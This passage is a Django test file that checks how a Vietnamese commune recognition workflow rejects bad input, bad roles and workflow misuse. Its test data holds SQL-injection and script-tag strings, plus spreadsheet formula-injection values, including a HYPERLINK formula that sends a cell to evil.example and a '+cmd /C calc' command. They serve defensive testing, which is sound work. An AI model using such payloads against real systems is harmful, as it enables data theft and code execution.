"""Trying to break the recognition workflow (issue 6, "Bad input"): every URL of the
recognition apps as users of the wrong unit or role, ids of another commune's dossier,
workflow misuse (double submissions, the wrong level acting, undoing another level's step,
returns without reasons or for criteria not in the set, impossible decisions), bad facts,
bad survey counts and files, and a ZIP whose evidence files have gone or changed.

Each refusal must give a clear message (never a 500) and leave everything stored as it was:
the dossiers, their transitions, recognitions and their watch, the survey, the publication
switch, the review's lock and the audit trail (see :func:`state`). Run on SQLite and on
PostgreSQL (``DATABASE_URL=postgres://…``); the concurrent cases need PostgreSQL.
"""

from __future__ import annotations

import io
import re
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test import Client
from django.utils import timezone
from pytest_django.fixtures import Settings

from ntm.audit.models import AuditEvent
from ntm.evidence.models import EvidenceFile
from ntm.evidence.services import evidence_upload
from ntm.recognition.models import (
    CommunePublicPage,
    Dossier,
    DossierTransition,
    Recognition,
    RevocationWatch,
    SatisfactionSurvey,
)
from ntm.recognition.services import (
    DossierRefused,
    dossier_act,
    dossier_create,
    recognition_record,
)
from ntm.reviews.models import Review
from ntm.territories.models import Unit, UnitKind
from ntm.users.models import Role
from tests.web.conftest import ENDED, client_for
from tests.web.evidence.files import docx_bytes, pdf_bytes, zip_bytes
from tests.web.recognition.conftest import FACTS
from tests.web.territories.conftest import review_copy

pytestmark = pytest.mark.django_db

POSTGRES = connection.vendor == "postgresql"
COMMUNE = "/xa/05560~20250701/cong-nhan/"
OTHER = "/xa/05554~20250701/cong-nhan/"


# --- helpers -------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def media_root(settings: Settings, tmp_path: Path) -> Path:
    """Each test stores its evidence files in its own folder."""
    root = tmp_path / "media"
    root.mkdir()
    settings.MEDIA_ROOT = str(root)
    return root


def state() -> dict[str, Any]:
    """Everything a refused request must leave as it was."""
    return {
        "dossiers": list(
            Dossier.objects.order_by("id").values_list(
                "id",
                "status",
                "next_step",
                "unlocked_criteria",
                "decision_number",
                "decision_date",
                "facts",
                "workflow",
                "submitted_at",
                "moved_at",
            )
        ),
        "transitions": list(
            DossierTransition.objects.order_by("id").values_list(
                "id", "dossier_id", "position", "action", "reasons", "decision_number"
            )
        ),
        "recognitions": list(
            Recognition.objects.order_by("id").values_list(
                "id", "commune_id", "level", "year", "decision_number", "decision_date"
            )
        ),
        "watches": list(RevocationWatch.objects.order_by("id").values_list("id", "outcome")),
        "surveys": list(
            SatisfactionSurvey.objects.order_by("id").values_list(
                "id", "counts", "asked", "answered", "satisfied", "source"
            )
        ),
        "publications": list(
            CommunePublicPage.objects.order_by("id").values_list("id", "published")
        ),
        "reviews": list(
            Review.objects.order_by("id").values_list(
                "id", "status", "lock_holder", "unlocked_criteria"
            )
        ),
        "evidence": list(EvidenceFile.objects.order_by("id").values_list("id", "sha256")),
        "audit": AuditEvent.objects.count(),
    }


def status_of(client: Client, address: str) -> int:
    """GET ``address``; its status, with a download's file closed."""
    response: Any = client.get(address)
    if response.streaming:
        b"".join(response.streaming_content)  # closes the file, as a real server does
    return int(response.status_code)


def page(response: Any) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8", "replace")
    return bytes(response.content).decode("utf-8", "replace")


def errors(text: str) -> list[str]:
    """The error messages shown on a page (Django's messages, not the list of what the
    dossier misses)."""
    shown = re.search(r'<ul class="messages">(.*?)</ul>', text, re.S)
    return [
        re.sub(r"\s+", " ", error).strip()
        for error in re.findall(
            r'<li class="error">(.*?)</li>', shown.group(1) if shown else "", re.S
        )
    ]


def url(dossier: Dossier, suffix: str = "") -> str:
    return f"/xa/{dossier.commune.url_key}/cong-nhan/{dossier.pk}/{suffix}"


def act(user: User, dossier: Dossier, action: str, **data: str) -> str:
    """Post an action as ``user``; the page after the redirect (200 required)."""
    response = client_for(user).post(
        url(dossier, "thao-tac/"), {"action": action, **data}, follow=True
    )
    assert response.status_code == 200, page(response)[:2000]
    return page(response)


def refused(user: User, dossier: Dossier, action: str, **data: str) -> str:
    """Post an action that must be refused: one error shown, nothing changed."""
    before = state()
    text = act(user, dossier, action, **data)
    found = errors(text)
    assert len(found) == 1, found
    assert state() == before
    return found[0]


def recognised(
    officer: User, coordinator: User, appraiser: User, dossier: Dossier, number: str = "1/QĐ-UBND"
) -> Dossier:
    """Move a complete dossier to recognition through the pages (today's chain: the
    province verifies, appraises and decides)."""
    act(officer, dossier, "submit")
    act(coordinator, dossier, "verify")
    act(appraiser, dossier, "appraise")
    dossier.refresh_from_db()
    day = vietnam_day(dossier)
    act(coordinator, dossier, "recognise", decision_number=number, decision_date=day)
    dossier.refresh_from_db()
    assert dossier.status == "recognised"
    return dossier


def vietnam_day(dossier: Dossier) -> str:
    """The day of the dossier's last move in Vietnam (TIME_ZONE), ISO: the day a decision
    may be dated from."""
    assert dossier.moved_at is not None
    return timezone.localtime(dossier.moved_at).date().isoformat()


@pytest.fixture
def people(
    officer: User,
    coordinator: User,
    appraiser: User,
    far_coordinator: User,
    make_user: Callable[..., User],
    phuc_chu: Unit,
    bao_linh: Unit,
    province: Unit,
    other_province: Unit,
    far_commune: Unit,
    hamlets: list[Unit],
) -> dict[str, User]:
    """A user of every role that concerns Phúc Chu, and of the units around it."""
    far_district = Unit.objects.get(kind=UnitKind.DISTRICT, code="d20")
    return {
        "officer": officer,
        "coordinator": coordinator,
        "appraiser": appraiser,
        "official": make_user(
            "phucchu.vhxh", Role.COMMUNE_OFFICIAL, phuc_chu, position="x", criteria=[12]
        ),
        "viewer": make_user("phucchu.xem", Role.VIEWER, phuc_chu),
        "hamlet head": make_user("phucchu.banpau", Role.HAMLET_HEAD, hamlets[0]),
        "province viewer": make_user("thainguyen.xem", Role.VIEWER, province),
        "district verifier": make_user("dinhhoa.thamtra", Role.DISTRICT_VERIFIER, phuc_chu.parent),
        "other commune officer": make_user("baolinh.ntm", Role.COMMUNE_OFFICER, bao_linh),
        "other province coordinator": far_coordinator,
        "other district verifier": make_user("xa.thamtra", Role.DISTRICT_VERIFIER, far_district),
        "other province appraiser": make_user(
            "langson.thamdinh", Role.PROVINCE_APPRAISER, other_province
        ),
    }


# --- every URL as every user -----------------------------------------------------------------

OUTSIDERS = (
    "other commune officer",
    "other province coordinator",
    "other district verifier",
    "other province appraiser",
)
INSIDERS_READ_ONLY = (
    "official",
    "viewer",
    "hamlet head",
    "province viewer",
    "coordinator",
    "appraiser",
    "district verifier",
)


def _gets(dossier: Dossier) -> list[str]:
    return [
        COMMUNE,
        url(dossier),
        url(dossier, "ho-so.zip"),
        f"{COMMUNE}khao-sat-hai-long.xlsx",
    ]


def _posts(dossier: Dossier, review: Review) -> list[tuple[str, dict[str, Any]]]:
    return [
        (f"{COMMUNE}mo-ho-so/", {"review": str(review.pk)}),
        (f"{COMMUNE}cong-khai/", {"published": "1"}),
        (url(dossier, "thao-tac/"), {"action": "submit"}),
        (url(dossier, "thong-tin/"), {"submission_number": "99/TTr-UBND"}),
        (
            url(dossier, "hai-long/"),
            {"asked-05560-01": "10", "answered-05560-01": "10", "satisfied-05560-01": "10"},
        ),
        (
            url(dossier, "hai-long/tep/"),
            {
                "kind": "counts",
                "file": SimpleUploadedFile(
                    "t.csv",
                    "Xóm,Số hộ được hỏi,Số hộ trả lời,Số hộ hài lòng\nNà Mò,9,9,9\n".encode(),
                ),
            },
        ),
    ]


def test_users_outside_the_commune_get_403_on_every_url_and_nothing_changes(
    people: dict[str, User], complete_dossier: Dossier, phuc_chu_review: Review
) -> None:
    before = state()
    for name in OUTSIDERS:
        client = client_for(people[name])
        for address in _gets(complete_dossier):
            assert status_of(client, address) == 403, (name, address)
        for address, data in _posts(complete_dossier, phuc_chu_review):
            assert client.post(address, data).status_code == 403, (name, address)
    assert state() == before


def test_anonymous_users_go_to_the_login_and_nothing_changes(
    complete_dossier: Dossier, phuc_chu_review: Review
) -> None:
    before = state()
    client = Client()
    for address in _gets(complete_dossier):
        response = client.get(address)
        assert response.status_code == 302 and "/dang-nhap/" in response["Location"], address
    for address, data in _posts(complete_dossier, phuc_chu_review):
        response = client.post(address, data)
        assert response.status_code == 302 and "/dang-nhap/" in response["Location"], address
    assert client.get("/tinh/19/ho-so/").status_code == 302
    assert state() == before


def test_roles_of_the_commune_without_the_right_may_read_but_not_write(
    people: dict[str, User], complete_dossier: Dossier, phuc_chu_review: Review
) -> None:
    """Reading is open to whoever sees the commune; the officer's writes are 403 for the
    others; a workflow action by a role the step does not name is refused with a message."""
    before = state()
    for name in INSIDERS_READ_ONLY:
        client = client_for(people[name])
        for address in _gets(complete_dossier):
            assert status_of(client, address) == 200, (name, address)
        for address, data in _posts(complete_dossier, phuc_chu_review):
            response = client.post(address, data)
            if address.endswith("thao-tac/"):
                assert response.status_code == 302, (name, address)
            else:
                assert response.status_code == 403, (name, address)
        text = act(people[name], complete_dossier, "submit")
        assert len(errors(text)) == 1, (name, errors(text))
    assert state() == before


def test_the_desk_is_the_province_s_only(
    people: dict[str, User], complete_dossier: Dossier
) -> None:
    for name in ("coordinator", "appraiser", "province viewer"):
        assert client_for(people[name]).get("/tinh/19/ho-so/").status_code == 200, name
    for name in (
        "officer",
        "official",
        "viewer",
        "hamlet head",
        "district verifier",
        *OUTSIDERS,
    ):
        assert client_for(people[name]).get("/tinh/19/ho-so/").status_code == 403, name
    assert client_for(people["coordinator"]).get("/tinh/20/ho-so/").status_code == 403
    assert client_for(people["coordinator"]).get("/tinh/99/ho-so/").status_code == 404


def test_the_public_page_of_an_unpublished_commune_is_not_found(
    officer: User, complete_dossier: Dossier
) -> None:
    anonymous = Client()
    assert anonymous.get("/cong-khai/05560~20250701/").status_code == 404
    assert anonymous.get("/cong-khai/99999/").status_code == 404
    assert anonymous.get("/cong-khai/%00/").status_code == 404  # BUG fixed: 500 on PostgreSQL
    assert anonymous.post("/cong-khai/05560~20250701/").status_code == 405
    client_for(officer).post(f"{COMMUNE}cong-khai/", {"published": "1"})
    assert anonymous.get("/cong-khai/05560~20250701/").status_code == 200
    client_for(officer).post(f"{COMMUNE}cong-khai/", {"published": "0"})
    assert anonymous.get("/cong-khai/05560~20250701/").status_code == 404


@pytest.fixture
def bao_linh_dossier(people: dict[str, User], bao_linh: Unit) -> Dossier:
    """Bảo Linh's own draft dossier (same province)."""
    review = review_copy(people["other commune officer"], bao_linh)
    return dossier_create(actor=people["other commune officer"], review=review)


def test_another_commune_s_dossier_under_this_commune_s_code_is_not_found(
    people: dict[str, User], complete_dossier: Dossier, bao_linh_dossier: Dossier
) -> None:
    before = state()
    mine, theirs = people["officer"], people["other commune officer"]
    for user, code, dossier in (
        (mine, COMMUNE, bao_linh_dossier),
        (theirs, OTHER, complete_dossier),
        (people["coordinator"], COMMUNE, bao_linh_dossier),
    ):
        client = client_for(user)
        base = f"{code}{dossier.pk}/"
        assert client.get(base).status_code == 404
        assert client.get(f"{base}ho-so.zip").status_code == 404
        for suffix, data in (
            ("thao-tac/", {"action": "submit"}),
            ("thao-tac/", {"action": "verify"}),
            ("thong-tin/", {"submission_number": "1"}),
            ("hai-long/", {}),
            ("hai-long/tep/", {}),
        ):
            # 404 (not this commune's dossier) or 403 (not the officer): never acted on.
            assert client.post(f"{base}{suffix}", data).status_code in (403, 404), (suffix, user)
    # A review of another commune cannot be opened as a dossier under this commune.
    bao_linh_review = bao_linh_dossier.review
    response = client_for(mine).post(f"{COMMUNE}mo-ho-so/", {"review": bao_linh_review.pk})
    assert response.status_code == 302
    for bad in ("abc", "-1", "99999999999999999999999", "1; DROP TABLE x", ""):
        client_for(mine).post(f"{COMMUNE}mo-ho-so/", {"review": bad})
    assert client_for(mine).get(f"{COMMUNE}99999999999999999999/").status_code == 404
    assert state() == before


def test_a_nul_in_the_commune_code_is_not_found(officer: User, coordinator: User) -> None:
    for user, address in ((officer, "/xa/%00/cong-nhan/"), (coordinator, "/tinh/%00/ho-so/")):
        client = client_for(user)
        client.raise_request_exception = False
        assert client.get(address).status_code == 404, address


# --- workflow misuse -------------------------------------------------------------------------


def test_submitting_twice_and_double_clicks_add_one_transition(
    officer: User, complete_dossier: Dossier
) -> None:
    act(officer, complete_dossier, "submit")
    after_first = state()
    message = refused(officer, complete_dossier, "submit")
    assert "submit" in message
    assert state() == after_first
    # Resubmitting a dossier that was never returned is refused too.
    refused(officer, complete_dossier, "resubmit")
    assert DossierTransition.objects.filter(dossier=complete_dossier).count() == 1


def test_a_double_click_on_resubmit_adds_one_transition(
    officer: User, coordinator: User, complete_dossier: Dossier
) -> None:
    act(officer, complete_dossier, "submit")
    act(coordinator, complete_dossier, "return", **{"reason-17": "Thiếu biên bản"})
    act(officer, complete_dossier, "resubmit")
    refused(officer, complete_dossier, "resubmit")
    refused(officer, complete_dossier, "submit")
    actions = list(
        DossierTransition.objects.filter(dossier=complete_dossier).values_list("action", flat=True)
    )
    assert actions == ["submit", "return", "resubmit"]


def test_the_wrong_method_is_refused(
    people: dict[str, User], complete_dossier: Dossier, phuc_chu_review: Review
) -> None:
    client = client_for(people["officer"])
    before = state()
    for address, _data in _posts(complete_dossier, phuc_chu_review):
        assert client.get(address).status_code == 405, address
    for address in _gets(complete_dossier):
        assert client.post(address).status_code == 405, address
    assert state() == before


def test_each_step_by_the_wrong_level_is_refused(
    people: dict[str, User], complete_dossier: Dossier
) -> None:
    officer, coordinator, appraiser = (
        people["officer"],
        people["coordinator"],
        people["appraiser"],
    )
    dossier = complete_dossier
    # Before submission nobody but the officer moves it.
    for name in ("coordinator", "appraiser", "district verifier", "province viewer"):
        refused(people[name], dossier, "submit")
        refused(people[name], dossier, "verify")
    act(officer, dossier, "submit")
    # Verification (today the province's coordinator): not the appraiser, not the district
    # (the district chain ended on 30/6/2025), not the commune.
    for name in ("appraiser", "district verifier", "officer", "province viewer"):
        message = refused(people[name], dossier, "verify")
    assert "province_coordinator" in message
    refused(coordinator, dossier, "appraise")  # skipping a step
    refused(coordinator, dossier, "recognise", decision_number="1", decision_date="2030-01-01")
    act(coordinator, dossier, "verify")
    refused(coordinator, dossier, "appraise")  # appraisal by the coordinator
    refused(officer, dossier, "appraise")
    refused(appraiser, dossier, "recognise", decision_number="1", decision_date="2030-01-01")
    act(appraiser, dossier, "appraise")
    # Recognition by the appraiser, with a valid decision: refused.
    dossier.refresh_from_db()
    day = vietnam_day(dossier)
    refused(appraiser, dossier, "recognise", decision_number="2/QĐ-UBND", decision_date=day)
    # Undo by another level than the one that appraised.
    refused(coordinator, dossier, "undo")
    refused(officer, dossier, "undo")
    refused(people["district verifier"], dossier, "undo")


def test_after_recognition_only_the_deciding_level_undoes(
    people: dict[str, User], complete_dossier: Dossier
) -> None:
    dossier = recognised(
        people["officer"], people["coordinator"], people["appraiser"], complete_dossier
    )
    for name in ("officer", "appraiser", "district verifier", "official", "viewer"):
        refused(people[name], dossier, "undo")
    for action in ("submit", "resubmit", "verify", "appraise", "refuse", "return"):
        refused(people["coordinator"], dossier, action, **{"reason-5": "x"})
    assert Recognition.objects.count() == 1
    # The commune cannot open a new dossier at a level it now holds.
    response = client_for(people["officer"]).post(
        f"{COMMUNE}mo-ho-so/", {"review": dossier.review_id}, follow=True
    )
    assert len(errors(page(response))) == 1
    assert Dossier.objects.count() == 1


@pytest.mark.parametrize(
    "reasons",
    [
        {},
        {"reason-5": ""},
        {"reason-5": "   "},
        {"reason-5": "\t\n"},
        {"reason-99": "Không có"},
        {"reason-1; DROP TABLE recognition_dossier": "x"},
        {"reason-<script>alert(1)</script>": "x"},
        {"reason-0": "x"},
        {"reason-05": "x"},
        {"reason-": "x"},
        {"reason-5": "ok", "reason-99": "not in the set"},
        # BUG fixed: NUL in a reason was a 500 on PostgreSQL (jsonb refuses \u0000), and
        # other control characters were stored.
        {"reason-5": "Thiếu\x00biên bản"},
        {"reason-5": "Thiếu\x01biên bản"},
        {"reason-\x00": "x"},
    ],
)
def test_a_return_without_valid_reasons_is_refused(
    people: dict[str, User], complete_dossier: Dossier, reasons: dict[str, str]
) -> None:
    act(people["officer"], complete_dossier, "submit")
    message = refused(people["coordinator"], complete_dossier, "return", **reasons)
    assert "<script>" not in message
    # The page still shows (and escapes) everything.
    response = client_for(people["coordinator"]).get(url(complete_dossier))
    assert response.status_code == 200
    assert "<script>alert(1)" not in page(response)


def test_a_reason_on_several_lines_is_accepted(
    people: dict[str, User], complete_dossier: Dossier
) -> None:
    act(people["officer"], complete_dossier, "submit")
    act(people["coordinator"], complete_dossier, "return", **{"reason-5": "Dòng 1\r\n\tDòng 2"})
    row = DossierTransition.objects.get(dossier=complete_dossier, action="return")
    assert row.reasons == {"5": "Dòng 1\r\n\tDòng 2"}


def test_a_reason_with_markup_is_stored_as_text_and_shown_escaped(
    people: dict[str, User], complete_dossier: Dossier
) -> None:
    act(people["officer"], complete_dossier, "submit")
    act(people["coordinator"], complete_dossier, "return", **{"reason-17": "<b>x</b>=1+1"})
    complete_dossier.refresh_from_db()
    assert complete_dossier.unlocked_criteria == ["17"]
    text = page(client_for(people["officer"]).get(url(complete_dossier)))
    assert "&lt;b&gt;x&lt;/b&gt;=1+1" in text


@pytest.mark.parametrize(
    ("number", "day", "expected"),
    [
        ("1763/QĐ-UBND", "31/02/2025", "date"),
        ("1763/QĐ-UBND", "2025-02-31", "date"),
        ("1763/QĐ-UBND", "", "date"),
        ("1763/QĐ-UBND", "hôm qua", "date"),
        ("1763/QĐ-UBND", "01/01/1900", "before"),
        ("", "TODAY", "number"),
        ("   ", "TODAY", "number"),
        ("x" * 10_000, "TODAY", "number"),
        ("17\x0063/QĐ", "TODAY", "number"),
        # BUG fixed: a control character was accepted into the decision number.
        ("17\x0163/QĐ", "TODAY", "number"),
        ("17\x1b[2J/QĐ", "TODAY", "number"),
    ],
)
def test_a_bad_decision_is_refused_with_its_reason(
    people: dict[str, User], complete_dossier: Dossier, number: str, day: str, expected: str
) -> None:
    dossier = complete_dossier
    act(people["officer"], dossier, "submit")
    act(people["coordinator"], dossier, "verify")
    act(people["appraiser"], dossier, "appraise")
    dossier.refresh_from_db()
    if day == "TODAY":
        day = vietnam_day(dossier)
    message = refused(
        people["coordinator"], dossier, "recognise", decision_number=number, decision_date=day
    )
    assert not Recognition.objects.exists()
    # The message names what is wrong (the page is in Vietnamese by default).
    assert {"date": "ngày quyết định", "before": "trước", "number": "số"}[expected] in (
        message.lower()
    ), message
    assert "Traceback" not in message


@pytest.mark.parametrize("action", ["", "explode", "SUBMIT", "undo;", "x" * 65, "<script>", "\x00"])
def test_an_unknown_action_is_refused(
    officer: User, complete_dossier: Dossier, action: str
) -> None:
    message = refused(officer, complete_dossier, action)
    assert "<script>" not in message


def test_a_dossier_for_a_level_recognised_before_the_product_is_refused(
    officer: User, coordinator: User, phuc_chu: Unit, phuc_chu_review: Review
) -> None:
    import datetime

    recognition_record(
        actor=coordinator,
        commune=phuc_chu,
        level="advanced",
        year=2023,
        criteria_set=phuc_chu_review.criteria_set,
        decision_number="12/QĐ-UBND",
        decision_date=datetime.date(2024, 1, 15),
        source="Quyết định giấy",
    )
    before = state()
    response = client_for(officer).post(
        f"{COMMUNE}mo-ho-so/", {"review": phuc_chu_review.pk}, follow=True
    )
    (message,) = errors(page(response))
    assert "2023" in message and "12/QĐ-UBND" in message
    assert state() == before


def test_a_second_dossier_for_the_same_commune_level_and_year_is_refused(
    officer: User, complete_dossier: Dossier, phuc_chu: Unit
) -> None:
    before = state()
    # Another review of the same set and year (a second review of 2024).
    other = review_copy(officer, phuc_chu)
    with pytest.raises(DossierRefused):
        dossier_create(actor=officer, review=other)
    after_review = state()
    response = client_for(officer).post(f"{COMMUNE}mo-ho-so/", {"review": other.pk}, follow=True)
    assert len(errors(page(response))) == 1
    assert state() == after_review
    assert before["dossiers"] == state()["dossiers"]


@pytest.mark.django_db(transaction=True)
def test_two_dossiers_opened_at_the_same_instant(
    officer: User, phuc_chu_review: Review, hamlets: list[Unit], phuc_chu: Unit
) -> None:
    """Two officers' clicks at once (PostgreSQL): one dossier, the other refused, no 500."""
    if not POSTGRES:
        pytest.skip("concurrent transactions need PostgreSQL")
    with transaction.atomic():
        other = review_copy(officer, phuc_chu)

    def open_(review: Review, barrier: threading.Barrier, statuses: list[int]) -> None:
        client = client_for(officer)
        client.raise_request_exception = False
        barrier.wait()
        try:
            statuses.append(client.post(f"{COMMUNE}mo-ho-so/", {"review": review.pk}).status_code)
        finally:
            connection.close()

    for round_ in range(5):
        Dossier.objects.all().delete()
        statuses: list[int] = []
        barrier = threading.Barrier(2)
        threads = [
            threading.Thread(target=open_, args=(review, barrier, statuses))
            for review in (phuc_chu_review, other)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert statuses == [302, 302]
        assert Dossier.objects.count() == 1
        # One audit event per dossier made: the refused click left none.
        assert AuditEvent.objects.filter(action="dossier.create").count() == round_ + 1


@pytest.mark.django_db(transaction=True)
def test_two_submissions_at_the_same_instant(
    officer: User, make_user: Callable[..., User], phuc_chu: Unit, complete_dossier: Dossier
) -> None:
    """Two officers submitting at once (PostgreSQL): one transition, no 500."""
    if not POSTGRES:
        pytest.skip("concurrent transactions need PostgreSQL")
    colleague = make_user("phucchu.ntm2", Role.COMMUNE_OFFICER, phuc_chu)
    statuses: list[int] = []
    barrier = threading.Barrier(2)

    def submit(user: User) -> None:
        client = client_for(user)
        client.raise_request_exception = False
        barrier.wait()
        try:
            statuses.append(
                client.post(url(complete_dossier, "thao-tac/"), {"action": "submit"}).status_code
            )
        finally:
            connection.close()

    threads = [threading.Thread(target=submit, args=(user,)) for user in (officer, colleague)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert statuses == [302, 302]
    assert DossierTransition.objects.filter(dossier=complete_dossier).count() == 1


def test_recognition_record_is_the_coordinator_s_of_the_commune_s_province(
    people: dict[str, User], phuc_chu: Unit, far_commune: Unit
) -> None:
    import datetime

    from django.core.exceptions import PermissionDenied

    before = state()
    kwargs: dict[str, Any] = {
        "level": "basic",
        "year": 2018,
        "criteria_set": "xa-ntm-2021-2025",
        "decision_number": "1/QĐ-UBND",
        "decision_date": datetime.date(2018, 12, 1),
        "source": "x",
    }
    for name in ("other province coordinator", "appraiser", "officer"):
        with pytest.raises(PermissionDenied):
            recognition_record(actor=people[name], commune=phuc_chu, **kwargs)
    # The coordinator of Thái Nguyên cannot record a recognition of Lạng Sơn's commune.
    with pytest.raises(PermissionDenied):
        recognition_record(actor=people["coordinator"], commune=far_commune, **kwargs)
    # The decision's number may be unknown (blank) for a recognition from before the
    # product; where it came from may not.
    for bad in (
        {"source": "  "},
        {"decision_date": datetime.date(2017, 12, 31)},
        {"level": "super"},
        {"criteria_set": "no-such-set"},
    ):
        with pytest.raises(DossierRefused):
            recognition_record(actor=people["coordinator"], commune=phuc_chu, **{**kwargs, **bad})
    assert state() == before


def test_a_dossier_whose_commune_changed_province_cannot_be_moved_by_the_old_province(
    people: dict[str, User], complete_dossier: Dossier, other_province: Unit, phuc_chu: Unit
) -> None:
    """A commune moved to another province after its dossier was submitted: the old
    province no longer sees it, the new one is not the dossier's province (its units were
    fixed at submission), so neither may verify."""
    act(people["officer"], complete_dossier, "submit")
    phuc_chu.province = other_province
    phuc_chu.save()
    before = state()
    response = client_for(people["coordinator"]).post(
        url(complete_dossier, "thao-tac/"), {"action": "verify"}
    )
    assert response.status_code == 403
    refused(people["other province coordinator"], complete_dossier, "verify")
    assert state() == before


# --- the facts form --------------------------------------------------------------------------


def facts_post(**changes: str) -> dict[str, str]:
    """The facts form filled as the complete dossier's, with ``changes``."""
    data = {
        "submission_number": "45/TTr-UBND",
        "submission_date": "02/12/2024",
        "signer_name": "Lộc Văn Dương",
        "publication_from": "01/11/2024",
        "publication_to": "15/11/2024",
        "publication_places": "Trụ sở UBND xã",
        "comments": "Ủy ban MTTQ Việt Nam xã | Nhất trí với báo cáo.",
        "meeting_date": "20/11/2024",
        "meeting_place": "Hội trường UBND xã",
        "meeting_chair": "Lộc Văn Dương",
        "meeting_secretary": "Thư ký",
        "meeting_invited": "27",
        "meeting_attended": "25",
        "meeting_votes_total": "25",
        "meeting_agreed": "24",
        "meeting_conclusion": "Đề nghị xét công nhận.",
        "debt_declared": "on",
        "debt_items": "",
        "debt_as_of": "30/11/2024",
    }
    data.update(changes)
    return data


def test_an_amount_written_the_vietnamese_way_is_read_exactly(
    officer: User, complete_dossier: Dossier
) -> None:
    response = client_for(officer).post(
        url(complete_dossier, "thong-tin/"),
        facts_post(debt_items="Đường trục xóm Bản Pấu | 12,5\nNhà văn hóa | 1.234,5"),
    )
    assert response.status_code == 302
    complete_dossier.refresh_from_db()
    assert complete_dossier.facts["debt_items"] == [
        {"work": "Đường trục xóm Bản Pấu", "amount": "12.5"},
        {"work": "Nhà văn hóa", "amount": "1234.5"},
    ]


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"debt_items": "Đường | 12.5.3"}, "debt_items"),
        ({"debt_items": "Đường | -3"}, "debt_items"),
        ({"debt_items": "Đường | 1e30"}, "debt_items"),
        ({"debt_items": "Đường | NaN"}, "debt_items"),
        ({"debt_items": "Đường | "}, "debt_items"),
        ({"debt_items": "| 12"}, "debt_items"),
        ({"debt_items": "Đường 12"}, "debt_items"),
        ({"debt_items": "Đường | 12", "debt_declared": ""}, "debt_declared"),
        ({"submission_date": "31/02/2025"}, "submission_date"),
        ({"meeting_date": "2025-02-31"}, "meeting_date"),
        ({"publication_from": "15/11/2024", "publication_to": "01/11/2024"}, "publication_to"),
        ({"meeting_attended": "30"}, "meeting_attended"),
        ({"meeting_votes_total": "26"}, "meeting_votes_total"),
        ({"meeting_agreed": "26"}, "meeting_agreed"),
        ({"meeting_invited": "-1"}, "meeting_invited"),
        ({"meeting_invited": "12,5"}, "meeting_invited"),
        ({"comments": "x" * 100_000}, "comments"),
        ({"comments": "only a source"}, "comments"),
        ({"meeting_place": "x" * 100_000}, "meeting_place"),
        ({"signer_name": "Lộc\x00Văn"}, "signer_name"),
        # BUG fixed: control characters were stored, then dropped from the documents
        # ("Hộitrường").
        ({"meeting_place": "Hội\x01trường"}, "meeting_place"),
        ({"comments": "MTTQ | Nhất\x0btrí"}, "comments"),
        ({"debt_items": "Đường\x08 | 12"}, "debt_items"),
        ({"submission_number": "45/TTr\x1b-UBND"}, "submission_number"),
    ],
)
def test_bad_facts_are_refused_on_the_form_and_nothing_changes(
    officer: User, complete_dossier: Dossier, changes: dict[str, str], field: str
) -> None:
    before = state()
    response = client_for(officer).post(url(complete_dossier, "thong-tin/"), facts_post(**changes))
    assert response.status_code == 422, page(response)[:500]
    text = page(response)
    assert re.search(rf'id="id_{field}"[^>]*aria-invalid="true"', text) or (
        f'id="id_{field}"' in text and "errorlist" in text
    ), field
    assert state() == before


def test_huge_but_consistent_meeting_counts_are_kept_exactly(
    officer: User, coordinator: User, complete_dossier: Dossier
) -> None:
    """10^30 members invited, 10^30 - 1 present: consistent, stored exactly (JSON), and the
    documents still build."""
    big = 10**30
    response = client_for(officer).post(
        url(complete_dossier, "thong-tin/"),
        facts_post(
            meeting_invited=str(big),
            meeting_attended=str(big - 1),
            meeting_votes_total=str(big - 1),
            meeting_agreed=str(big - 2),
        ),
    )
    assert response.status_code == 302
    complete_dossier.refresh_from_db()
    assert complete_dossier.facts["meeting_invited"] == big
    assert complete_dossier.facts["meeting_agreed"] == big - 2
    _zip_documents(coordinator, complete_dossier)


def test_a_formula_typed_in_the_facts_is_plain_text_in_the_documents(
    officer: User, coordinator: User, complete_dossier: Dossier
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
    response = client_for(officer).post(
        url(complete_dossier, "thong-tin/"),
        facts_post(
            meeting_place=formula,
            comments=f"@SUM(1+1) | {formula} | +cmd /C calc!A0",
            debt_items=f"-2+3 {formula} | 12,5",
        ),
    )
    assert response.status_code == 302
    documents = _zip_documents(coordinator, complete_dossier)
    everything = "\n".join(documents.values())
    assert formula in everything
    assert "@SUM(1+1)" in everything
    assert "12,5" in everything


# --- the survey ------------------------------------------------------------------------------


def survey_post(asked: str, answered: str, satisfied: str) -> dict[str, str]:
    return {
        "asked-05560-01": asked,
        "answered-05560-01": answered,
        "satisfied-05560-01": satisfied,
        "asked-05560-02": "30",
        "answered-05560-02": "30",
        "satisfied-05560-02": "29",
    }


@pytest.mark.parametrize(
    "values",
    [
        ("40", "41", "41"),  # more answered than asked (the issue's case)
        ("40", "38", "39"),  # more satisfied than answered
        ("-40", "38", "37"),
        ("40", "-1", "0"),
        ("12,5", "10", "9"),
        ("12.5", "10", "9"),
        # BUG fixed: digits for str.isdigit() that int() refuses were a 500.
        ("4²", "1", "1"),
        ("²", "1", "1"),
        ("٤٠", "38", "37"),  # Arabic-Indic digits: int() reads 40, not what was typed here
        # BUG fixed: counts beyond the column were a 500 (SQLite over 2^63, PostgreSQL over
        # 2^31 - 1) or stored on SQLite.
        ("1" + "0" * 30, "10", "9"),
        ("99999999999", "10", "9"),
        ("2147483648", "10", "9"),
        ("40", "", "37"),
        ("abc", "1", "1"),
        ("4\x000", "1", "1"),
    ],
)
def test_bad_survey_counts_are_refused_with_a_message_and_nothing_changes(
    officer: User, complete_dossier: Dossier, values: tuple[str, str, str]
) -> None:
    before = state()
    response = client_for(officer).post(
        url(complete_dossier, "hai-long/"), survey_post(*values), follow=True
    )
    assert response.status_code == 200
    found = errors(page(response))
    assert len(found) == 1, found
    assert state() == before


def test_the_largest_storable_counts_are_accepted(officer: User, complete_dossier: Dossier) -> None:
    """2 147 483 617 + 30 = 2 147 483 647 = 2^31 - 1 households asked in all: stored; one more
    is refused (above)."""
    response = client_for(officer).post(
